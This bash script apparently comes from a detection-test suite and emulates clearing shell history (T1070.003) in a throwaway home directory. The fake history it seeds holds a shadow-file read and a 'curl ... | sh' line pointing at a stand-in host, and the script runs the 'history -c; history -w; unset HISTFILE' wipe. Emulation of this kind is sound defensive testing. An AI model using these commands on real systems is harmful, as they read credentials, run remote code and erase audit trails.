#!/usr/bin/env bash
# History tampering: `history -c; history -w; unset HISTFILE` in a bash whose history file is in
# a throwaway HOME (history -w truncates the file to the now empty list).
. "$(dirname "$0")/../lib.sh"
scn_begin evade-history-clear T1070.003
scn_fake_home
printf 'cat /etc/shadow\ncurl http://198.51.100.2/x | sh\n' >"$SCN_HOME/.bash_history"
HOME="$SCN_HOME" HISTFILE="$SCN_HOME/.bash_history" bash -c 'set -o history; history -c; history -w; unset HISTFILE' &
key=$!
wait $key || scn_fail "bash failed"
[ ! -s "$SCN_HOME/.bash_history" ] || scn_fail "the history file was not emptied"
scn_done $key
